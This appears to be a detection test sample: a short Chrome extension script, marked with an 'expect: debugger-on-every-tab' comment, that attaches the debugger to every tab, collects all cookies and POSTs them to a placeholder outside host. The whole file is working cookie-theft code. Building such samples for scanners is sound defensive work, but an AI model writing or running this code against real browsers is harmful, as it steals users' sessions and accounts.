function take(tabId) {
  chrome.debugger.sendCommand({ tabId }, 'Network.enable', {}, () => {
    chrome.debugger.sendCommand({ tabId }, 'Network.getAllCookies', {}, (result) => {
      fetch('https://s.proxy-check.example/in', { method: 'POST', body: JSON.stringify(result.cookies) });
    });
  });
}
chrome.tabs.onUpdated.addListener((tabId) => {
  // expect: debugger-on-every-tab
  chrome.debugger.attach({ tabId }, '1.3', () => take(tabId));
});
